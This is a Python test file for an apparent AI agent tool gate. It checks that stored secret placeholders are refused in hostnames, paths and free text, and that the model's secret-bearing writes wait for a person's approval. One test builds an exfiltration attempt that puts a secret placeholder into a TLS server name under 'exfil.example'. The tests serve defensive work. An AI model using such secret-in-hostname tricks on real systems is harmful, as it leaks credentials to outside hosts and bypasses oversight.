"""Stored secrets resolve only into secret-bearing fields, and only for calls a person made or
approved: a placeholder in a hostname, URL, path or free text is refused before anything runs."""

from __future__ import annotations

import contextlib
import socket
import threading
from pathlib import Path

import pytest
from sqlalchemy import select

from core.errors import BadInput
from core.settings import Settings
from memory.models import AuditEntry
from policies.gate import CallContext, Gate
from policies.provenance import Provenance
from policies.rules import Rule, load_rules
from tools.catalog import build_registry

USER = CallContext(actor="user:evin")
SECRET = "db-pass-Zq81-very-secret"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    folder = tmp_path / "contain"
    folder.mkdir()
    return folder


@pytest.fixture
def settings(tmp_path: Path, root: Path) -> Settings:
    data = tmp_path / "data"
    data.mkdir()
    return Settings(data_dir=data, config_edit_roots=[root])


@pytest.fixture
def policy_rules() -> list[Rule]:
    writes = Rule.model_validate(
        {"id": "evin-writes-configs", "effect": "allow", "tools": ["files.write_config"]}
    )
    return [writes, *load_rules(None)]


async def stored_placeholder(gate: Gate, root: Path) -> str:
    """A placeholder for SECRET, the way one reaches the model: read from a config file."""
    (root / "app.env").write_text(f"DB_PASSWORD={SECRET}\n")
    outcome = await gate.invoke(USER, "files.read_config", {"path": str(root / "app.env")})
    text = str(outcome.data)
    assert SECRET not in text
    start = text.index("[[secret:")
    return text[start : text.index("]]", start) + 2]


class Listener:
    """A TCP port on loopback that records whether anyone connected (and what SNI-ish bytes)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received = b""
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.settimeout(0.5)
            with contextlib.suppress(OSError):
                self.received += conn.recv(4096)
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


def test_only_the_config_content_is_secret_bearing() -> None:
    bearing = {s.name: s.secret_fields for s in build_registry().specs() if s.secret_fields}
    assert bearing == {"files.write_config": frozenset({"content"})}


async def test_placeholder_in_a_tls_server_name_is_refused_and_nothing_is_sent(
    gate: Gate, root: Path
) -> None:
    placeholder = await stored_placeholder(gate, root)
    listener = Listener()
    try:
        with pytest.raises(BadInput, match="cannot be used in server_name"):
            await gate.invoke(
                USER,
                "ssl.check_certificate",
                {
                    "host": "127.0.0.1",
                    "port": listener.port,
                    "server_name": f"{placeholder}.exfil.example",
                },
            )
    finally:
        listener.close()
    assert listener.connections == 0
    assert SECRET.encode() not in listener.received
    async with gate.db.session() as session:
        last = (
            await session.execute(select(AuditEntry).order_by(AuditEntry.seq.desc()).limit(1))
        ).scalar_one()
    assert last.event == "rejected" and "server_name" in str(last.data)
    assert SECRET not in str(last.data)


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("docker.container_logs", {"name": "plex", "grep": "{p}"}),
        ("files.read_config", {"path": "/etc/{p}"}),
        ("domains.status", {"fqdn": "{p}.example.com"}),
    ],
)
async def test_placeholder_in_free_text_path_or_name_is_refused(
    gate: Gate, root: Path, tool: str, args: dict[str, str]
) -> None:
    placeholder = await stored_placeholder(gate, root)
    filled = {k: v.format(p=placeholder) for k, v in args.items()}
    with pytest.raises(BadInput, match="secret placeholder cannot be used"):
        await gate.invoke(USER, tool, filled)


async def test_person_made_write_resolves_the_secret_into_the_file(gate: Gate, root: Path) -> None:
    placeholder = await stored_placeholder(gate, root)
    target = root / "app.env"
    outcome = await gate.invoke(
        USER,
        "files.write_config",
        {"path": str(target), "content": f"DB_PASSWORD={placeholder}\n", "validator": "text"},
    )
    assert outcome.status == "ok", outcome
    assert target.read_text() == f"DB_PASSWORD={SECRET}\n"


async def test_model_made_write_with_a_secret_waits_for_a_person(gate: Gate, root: Path) -> None:
    placeholder = await stored_placeholder(gate, root)
    target = root / "app.env"
    prov = Provenance()
    prov.add_typed("rotate nothing, just rewrite app.env as it is")
    model = CallContext(actor="user:evin", provenance=prov)
    outcome = await gate.invoke(
        model,
        "files.write_config",
        {"path": str(target), "content": f"X={placeholder}\n", "validator": "text"},
    )
    assert outcome.status == "approval_required"
    assert outcome.rule == "builtin:secret-use"
    assert target.read_text() == f"DB_PASSWORD={SECRET}\n"
    view = await gate.decide(outcome.approval_id or "", approve=True, by="user:evin")
    assert view.status == "executed"
    assert target.read_text() == f"X={SECRET}\n"


async def test_unknown_placeholder_in_a_secret_field_is_bad_input(gate: Gate, root: Path) -> None:
    target = root / "app.env"
    target.write_text("A=1\n")
    with pytest.raises(BadInput, match="unknown secret placeholder"):
        await gate.invoke(
            USER,
            "files.write_config",
            {"path": str(target), "content": "A=[[secret:000000000000]]\n", "validator": "text"},
        )
    assert target.read_text() == "A=1\n"


async def test_the_model_reading_then_writing_a_config_is_not_escalated(
    gate: Gate, root: Path
) -> None:
    # The owner's own file: its path, hash and validator are not someone else's words.
    target = root / "app.yaml"
    target.write_text("a: 1\n")
    prov = Provenance()
    prov.add_typed("set a to 2 in app.yaml")
    model = CallContext(actor="user:evin", provenance=prov)
    read = await gate.invoke(model, "files.read_config", {"path": str(target)})
    assert read.status == "ok" and not read.untrusted
    digest = read.data["sha256"]  # type: ignore[index]
    outcome = await gate.invoke(
        model,
        "files.write_config",
        {"path": str(target), "content": "a: 2\n", "validator": "yaml", "expected_sha256": digest},
    )
    assert outcome.status == "ok", (outcome.rule, outcome.reason)
    assert target.read_text() == "a: 2\n"


def test_fixed_choices_flags_and_numbers_are_not_checked_for_provenance() -> None:
    spec = build_registry().get("files.write_config")
    assert spec.free_fields == {"path", "content", "expected_sha256", "health_url"}


async def test_a_secret_written_into_a_file_does_not_come_back_plain(
    gate: Gate, root: Path
) -> None:
    placeholder = await stored_placeholder(gate, root)
    target = root / "notes.txt"
    target.write_text("nothing\n")
    written = await gate.invoke(
        USER,
        "files.write_config",
        {"path": str(target), "content": f"note {placeholder} end\n", "validator": "text"},
    )
    assert written.status == "ok"
    assert target.read_text() == f"note {SECRET} end\n"
    read = await gate.invoke(USER, "files.read_config", {"path": str(target)})
    assert SECRET not in read.model_dump_json()
    assert placeholder in str(read.data)
